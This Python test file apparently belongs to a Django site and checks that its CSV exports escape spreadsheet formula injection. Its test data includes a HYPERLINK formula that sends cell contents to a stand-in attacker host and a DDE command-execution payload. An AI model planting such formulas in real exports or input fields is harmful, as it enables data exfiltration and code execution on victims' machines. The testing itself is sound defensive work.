"""CSV formula injection: text people typed that a spreadsheet would run as a formula
(``=HYPERLINK(…)``, ``@SUM(…)``, a leading ``+`` or ``-``, after spaces, in full-width forms) is
written as text in every CSV the site produces, through the one writer in ``core.spreadsheets``.
"""

import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from core.spreadsheets import csv_cell, csv_text
from dissemination import outputs
from dissemination.models import ResultsPage
from portfolios.models import PracticeLogEntry
from tests.core.test_csv_exports import rows

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_be_a_formula_is_written_as_text(payload):
    assert csv_cell(payload) == "'" + payload
    written = rows(csv_text(["note"], [[payload]]).encode())
    assert written[1] == ["'" + payload]


@pytest.mark.parametrize(
    "value", ["Kalniņa", "a=b", "e-mail", "", None, -5, 3.5, "-0.50", "+1", "12,5"]
)
def test_ordinary_cells_and_numbers_are_left_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_the_practice_log_export_and_the_report_pack_carry_no_formula(demo, client):
    entry = PracticeLogEntry.objects.filter(portfolio__participant__username="participant1")[0]
    entry.note = PAYLOADS[0]
    entry.save()
    client.force_login(get_user_model().objects.get(username="coordinator"))
    response = client.get(reverse("practice_log:index"), {"export": "csv"})
    cells = [cell for row in rows(b"".join(response.streaming_content)) for cell in row]
    assert "'" + PAYLOADS[0] in cells
    assert PAYLOADS[0] not in cells

    page = ResultsPage.objects.get(
        url_path__endswith="/latgale-florence-2010/results/", locale__language_code="en"
    )
    archive = zipfile.ZipFile(io.BytesIO(outputs.report_pack(page)))
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in rows(archive.read(name)):
                assert not any(cell.lstrip().startswith(("=", "@", "+")) for cell in row), name
